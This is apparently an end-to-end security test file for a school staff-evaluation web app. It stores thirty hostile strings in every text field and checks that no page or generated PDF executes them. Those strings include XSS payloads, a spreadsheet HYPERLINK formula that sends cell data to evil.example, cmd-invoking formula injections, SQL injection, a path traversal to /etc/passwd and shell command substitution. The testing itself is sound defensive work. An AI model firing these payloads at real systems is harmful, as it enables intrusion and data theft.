"""Thirty hostile texts in every text field: no page and no PDF runs them or breaks."""

import re
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from pypdf import PdfReader

from e2e.conftest import (
    ADMIN_EMAIL,
    DESKTOP,
    PASSWORD,
    PHONE,
    Program,
    Visitor,
    serving,
)
from e2e.school import ApiClient

ONE_LINE = (
    # HTML and JavaScript; each would set `hacked` or request something
    "<script>hacked=1</script>",
    '"><img src=/hacked onerror=hacked=1>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></style><script>hacked=1</script>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    '<a href="javascript:hacked=1">x</a>',
    "javascript:hacked=1//",
    '" autofocus onfocus=hacked=1 x="',
    "<style>@import'/hacked'</style>",
    "<!--<script>hacked=1</script>-->",
    "&lt;script&gt;hacked=1&lt;/script&gt;",
    # templates, spreadsheet formulas, SQL, paths and shell commands
    "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "{% load x %}{{ request }}",
    "%s%n%x {0.__class__}",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a,b;c "d"|e',
    "'; DROP TABLE accounts_user; --",
    "../../../etc/passwd",
    "$(touch /tmp/hacked)`id`",
    # writing direction, joined emoji, escapes, PDF operators
    "\u202eotxet odasapsed\u202c \u2066x",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇴 \u200d\u200b\ufeff",
    "\\u003cscript\\u003e\\",
    "(Tj) ET Q endstream endobj /JS (x)",
)
STANDALONE = (
    "__proto__",
    "null",
    "Z" + "\u0300\u0489" * 74,
    "W" * 150,
)
MULTILINE = "una\r\nSet-Cookie: a=b\n\n=1+1\n<script>hacked=1</script>"
HOSTILE = (*ONE_LINE, *STANDALONE, MULTILINE)
NAME_LENGTH = 150


def pack_into_names(texts: tuple[str, ...]) -> Iterator[str]:
    """The texts, joined into as few names as possible."""
    name, *rest = texts
    for text in rest:
        if len(name) + len(text) < NAME_LENGTH:
            name += f" {text}"
        else:
            yield name
            name = text
    yield name


NAMES = (*pack_into_names(ONE_LINE), *STANDALONE)
# people's names are no addresses
IN_ADDRESSES = str.maketrans("", "", "@:.")
ALL_TEXTS = "\n".join(HOSTILE)


@dataclass(frozen=True)
class School:
    """A school whose every text is hostile."""

    program: Program
    bank_id: int
    evaluation_id: int
    evaluator_id: int
    target_id: int
    other_id: int


def email_of(number: int) -> str:
    """The e-mail of the evaluator with this number; -1 is the evaluated person."""
    return f"persona{number}@colegio.example"


@pytest.fixture(scope="module")
def school(
    tmp_path_factory: pytest.TempPathFactory, with_admin: Callable[[Program], None]
) -> Iterator[School]:
    """A school with hostile texts, in which every evaluator has evaluated one person."""
    with serving(tmp_path_factory.mktemp("hostile"), with_admin) as program:
        yield fill_with_hostile_texts(program)


def fill_with_hostile_texts(program: Program) -> School:
    """Create everything through the API."""
    admin = ApiClient(program, ADMIN_EMAIL)
    admin.call("PUT", "/profile", {"name": NAMES[0].translate(IN_ADDRESSES)}, expected=200)
    categories = [admin.create("/categories", name=name) for name in NAMES]
    banks = [
        admin.create("/question-banks", name=name, description=ALL_TEXTS[:2000]) for name in NAMES
    ]
    for number, text in enumerate(HOSTILE):
        kind = "objective" if number % 2 else "competency"
        path = f"/question-banks/{banks[0]}/questions"
        admin.create(path, question_text=text, question_type=kind)
    evaluations = [
        admin.create(
            "/evaluations",
            name=name,
            weight_objectives=50,
            weight_competencies=50,
            category_id=category,
            question_bank_id=banks[0],
        )
        for name, category in zip(NAMES, categories, strict=True)
    ]

    def person(number: int, name: str, role: str) -> int:
        return admin.create(
            "/users",
            name=name.translate(IN_ADDRESSES),
            email=email_of(number),
            password=PASSWORD,
            role=role,
            position=name,
            department=name,
            category_id=categories[0],
        )

    target, other = (person(number, NAMES[number], "colaborador") for number in (-1, -2))
    evaluators = [person(number, name, "evaluador") for number, name in enumerate(NAMES)]
    for evaluator in evaluators:
        admin.create("/assignments", evaluator_id=evaluator, collaborator_id=target)
        admin.create("/assignments", evaluator_id=evaluator, collaborator_id=other)
    questions = admin.call("GET", f"/question-banks/{banks[0]}/questions", expected=200)
    for number, evaluator in enumerate(evaluators):
        ApiClient(program, email_of(number)).create(
            "/full-evaluation/full-submit",
            evaluation_id=evaluations[0],
            user_id=target,
            evaluator_id=evaluator,
            responses=[{"question_id": question["id"], "score": 3} for question in questions],
            training={"requires_training": True, "comments": f"{NAMES[number]}\n{ALL_TEXTS}"},
        )
    data = {"name": NAMES[0], "city": NAMES[1], "nit": "", "support_email": ""}
    admin.call("PUT", "/school", data, expected=200)
    multiline_name = {"name": MULTILINE}
    fields = admin.call("POST", "/categories", multiline_name, expected=400)["fields"]
    assert set(fields) == {"name"}
    return School(program, banks[0], evaluations[0], evaluators[0], target, other)


def manager_pages(school: School) -> list[str]:
    """Every page of a manager, with the second pages of long lists."""
    search = "?search=%3Cscript%3Ehacked%3D1%3C%2Fscript%3E"
    return [
        "/dashboard",
        "/users",
        "/users?page=2",
        f"/users{search}",
        "/create-user",
        "/create-users",
        f"/edit-user/{school.target_id}",
        f"/users/{school.target_id}",
        f"/users/{school.evaluator_id}",
        "/evaluations",
        f"/edit-evaluation/{school.evaluation_id}",
        "/create-evaluation",
        f"/question-banks?bank={school.bank_id}",
        "/evaluators",
        "/collaborators",
        "/categories",
        "/school",
        "/reports",
        "/reports?evaluation_name=%22%3E%3Cimg%20src%3D/hacked%3E",
        f"/report/{school.evaluation_id}/{school.target_id}",
        "/evaluation-history",
        f"/evaluation-history/{school.target_id}",
        f"/assignments?evaluator={school.evaluator_id}",
        "/analysis",
        "/analysis?show=questions",
        "/analysis?show=evaluators",
        "/analysis?show=groups",
        "/analysis?show=measures",
        "/board-report",
        "/training-report",
        "/training-report?page=2",
        "/submissions",
        "/plans/new",
        "/audit",
        "/profile",
        "/edit-profile",
        "/no/%3Cscript%3Ehacked%3D1%3C%2Fscript%3E",
    ]


@pytest.fixture
def sign_in(school: School, visit: Callable[..., Visitor]) -> Callable[[str], Visitor]:
    """Open a browser on a phone, signed in with an e-mail."""

    def open_browser(email: str) -> Visitor:
        person = visit(school.program, PHONE)
        person.sign_in(email)
        return person

    return open_browser


def open_unharmed(person: Visitor, path: str) -> str:
    """Open a page, check that it is unharmed, and return the text that can be read there."""
    person.open(path)
    person.wait_until_loaded()
    person.page.evaluate("document.querySelectorAll('details').forEach(part => (part.open = true))")
    check_unharmed(person)
    text: str = person.page.evaluate(
        """document.body.innerText
            + [...document.querySelectorAll('input')].map(input => input.value)"""
    )
    return text


# Visible controls beyond the right edge of the phone, unless their row can be moved sideways.
# A link in a text has to begin before it: a letter with a hundred marks may be wider.
_OUT_OF_REACH = """[...document.querySelectorAll('main :is(a, button, input, select, textarea)')]
    .filter(control => {
        let row = control.parentElement;
        while (row && getComputedStyle(row).overflowX !== 'auto') row = row.parentElement;
        return !row || row.scrollWidth <= row.clientWidth;
    })
    .filter(control => control.checkVisibility({ visibilityProperty: true }))
    .filter(control => {
        const { width, left, right } = control.getBoundingClientRect();
        const isInText = getComputedStyle(control).display === 'inline';
        return width && (isInText ? left : right) > document.documentElement.clientWidth + 1;
    })
    .map(control => control.outerHTML)"""


def check_unharmed(person: Visitor) -> None:
    """Check that nothing has run in the page or broken it, and that it fits a phone."""
    page = person.page
    assert page.evaluate("window.hacked") is None, page.url
    foreign = "main :is(script, iframe, style:not([data-mantine-styles]), [srcdoc], [onerror])"
    assert page.locator(foreign).count() == 0, page.url
    assert page.get_by_text("Esta página no se pudo mostrar").count() == 0, page.url
    person.check_layout()
    assert page.evaluate(_OUT_OF_REACH) == [], page.url


def collapse_spaces(text: str) -> str:
    """The text as a browser shows it."""
    return " ".join(text.split())


def test_texts_do_no_harm_on_a_managers_pages(
    school: School, sign_in: Callable[[str], Visitor]
) -> None:
    assert len(HOSTILE) == 30
    manager = sign_in(ADMIN_EMAIL)
    texts = {path: collapse_spaces(open_unharmed(manager, path)) for path in manager_pages(school)}
    people = texts["/users"] + texts["/users?page=2"]
    for name in map(collapse_spaces, NAMES):
        assert name in people
        assert name in texts["/evaluations"]
        assert name in texts["/categories"]
    for question in map(collapse_spaces, HOSTILE):
        assert question in texts[f"/report/{school.evaluation_id}/{school.target_id}"]
        assert question in texts[f"/question-banks?bank={school.bank_id}"]
    assert collapse_spaces(NAMES[0]) in texts["/school"]


def test_texts_do_no_harm_to_evaluators_and_evaluated_people(
    school: School, sign_in: Callable[[str], Visitor]
) -> None:
    evaluator = sign_in(email_of(0))
    form = f"/evaluation-form?collaborator={school.other_id}"
    result = f"{school.evaluation_id}/{school.target_id}"
    sent = ("/sent-evaluations", f"/sent-evaluations/{result}")
    for path in ("/home", "/evaluation-form", form, f"{form}&step=training", "/my-history", *sent):
        open_unharmed(evaluator, path)
    target = sign_in(email_of(-1))
    report = f"/report/{result}"
    for path in ("/home", "/my-history", "/profile", report):
        open_unharmed(target, path)


def download_pdf(page: Page, button: str) -> PdfReader:
    """Download the PDF that a button makes."""
    with page.expect_download() as download:
        page.get_by_role("button", name=button).first.click()
    return PdfReader(Path(download.value.path()))


def download_all_reports(manager: Visitor) -> PdfReader:
    """Download the reports of the evaluation in one PDF, which a phone does not offer."""
    manager.page.set_viewport_size(DESKTOP)
    manager.open("/evaluations")
    name = f"Reportes de {collapse_spaces(NAMES[0])}"
    manager.page.get_by_role("button", name=name).first.click()
    dialog = manager.page.get_by_role("dialog")
    dialog.get_by_role("radio", name="Todos en un PDF").check()
    with manager.page.expect_download() as download:
        dialog.get_by_role("button", name=re.compile("^Descargar ")).click()
    expect(dialog).to_have_count(0)
    return PdfReader(Path(download.value.path()))


def test_every_pdf_is_made_of_any_text(school: School, sign_in: Callable[[str], Visitor]) -> None:
    manager = sign_in(ADMIN_EMAIL)
    readers = []
    for path, button in (
        ("/reports", "Descargar PDF"),
        ("/training-report", "Descargar PDF"),
        (f"/report/{school.evaluation_id}/{school.target_id}", "Descargar PDF"),
        (f"/evaluation-history/{school.target_id}", "Descargar PDF"),
    ):
        manager.open(path)
        readers.append(download_pdf(manager.page, button))
        check_unharmed(manager)
    readers.append(download_all_reports(manager))
    check_unharmed(manager)
    for reader in readers:
        text = "".join(word for page in reader.pages for word in page.extract_text().split())
        assert "<script>hacked=1</script>" in text
        root = reader.trailer["/Root"]
        assert not {"/AA", "/AcroForm", "/JavaScript", "/Names"} & set(root)
        assert isinstance(root["/OpenAction"], list)  # a destination, not an action
        assert all("/AA" not in page for page in reader.pages)
        links = [note.get_object() for page in reader.pages for note in page.get("/Annots", [])]
        # the only links lead to the verification of the document
        targets = {str(link["/A"]["/URI"]).rpartition("/")[0] for link in links}
        assert targets == {f"{manager.program.url}/verificar"}
        assert {link["/A"]["/S"] for link in links} == {"/URI"}


def test_the_security_policy_blocks_inline_code(sign_in: Callable[[str], Visitor]) -> None:
    person = sign_in(email_of(0))
    person.open("/home")
    person.wait_until_loaded()
    with ExitStack() as blocked:
        for directive in ("style-src-elem", "style-src-attr", "script-src-elem", "script-src-attr"):
            line = f"against the security policy: {directive} inline"
            blocked.enter_context(
                person.page.expect_console_message(lambda message, line=line: line in message.text)
            )
        person.page.evaluate(
            """() => {
                document.head.append(Object.assign(
                    document.createElement('style'), {textContent: '* {color: red}'}));
                document.body.insertAdjacentHTML(
                    'beforeend', '<img src=x onerror=hacked=1 style="top:0">');
                document.head.append(Object.assign(
                    document.createElement('script'), {textContent: 'hacked = 1'}));
            }"""
        )
    assert person.page.evaluate("window.hacked") is None
    assert all("security policy" in error.lower() for error in person.errors)
    person.errors.clear()
